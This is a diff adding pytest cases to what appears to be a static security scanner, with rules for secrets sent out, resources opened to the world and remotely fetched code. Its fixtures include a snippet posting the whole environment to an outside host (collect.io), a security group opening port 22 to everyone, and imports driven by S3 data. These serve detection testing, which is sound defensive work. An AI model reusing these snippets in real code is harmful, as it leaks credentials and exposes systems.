@@ -280,3 +280,57 @@ def test_a_lease_on_a_branch_that_is_named_and_not_shared_is_what_is_advised(
 def test_one_file_for_everybody_is_quieter_than_a_bucket(code: str, expected: Level) -> None:
     start = "from google.cloud import storage\n\nclient = storage.Client()\n"
     assert level("opened-to-the-world", python(start + code)) is expected
+
+
+SENT = """\
+import os, requests
+
+def details():
+    env = os.environ
+    return {}
+
+requests.post("https://collect.io/x", json=details())
+"""
+
+
+@pytest.mark.parametrize(
+    ("result", "expected"),
+    [
+        ('{"host": env.get("NOTIFY_HOST")}', Level.OFF),
+        ('{"host": env["NOTIFY_HOST"]}', Level.OFF),
+        ('{"all": dict(env)}', Level.ERROR),
+    ],
+)
+def test_one_variable_under_another_name_isnt_the_whole_environment(
+    result: str, expected: Level
+) -> None:
+    assert level("secrets-sent-out", python(SENT.replace("{}", result))) is expected
+
+
+GROUP = """\
+from pulumi_aws import ec2
+
+ec2.SecurityGroup("a", ingress=[
+    ec2.SecurityGroupIngressArgs(from_port={}, protocol="tcp", cidr_blocks=["0.0.0.0/0"]),
+    ec2.SecurityGroupIngressArgs(from_port=7800, to_port=7800, self=True),
+])
+"""
+
+
+@pytest.mark.parametrize(
+    ("port", "expected"), [("443", Level.INFO), ("22", Level.ERROR), ("port()", Level.WARNING)]
+)
+def test_only_the_entries_that_let_everybody_in_say_which_port(port: str, expected: Level) -> None:
+    assert level("opened-to-the-world", python(GROUP.format(port))) is expected
+
+
+@pytest.mark.parametrize(
+    ("fetched", "expected"),
+    [
+        ('Config("shop").get_object("module")', Level.OFF),
+        ('s3.get_object(Bucket="b", Key="k")', Level.ERROR),
+    ],
+)
+def test_an_object_by_its_name_alone_isnt_fetched(fetched: str, expected: Level) -> None:
+    code = f"import importlib\n\nfor one in {fetched}:\n    importlib.import_module(one)\n"
+    assert level("piped-remote-code", python(code)) is expected
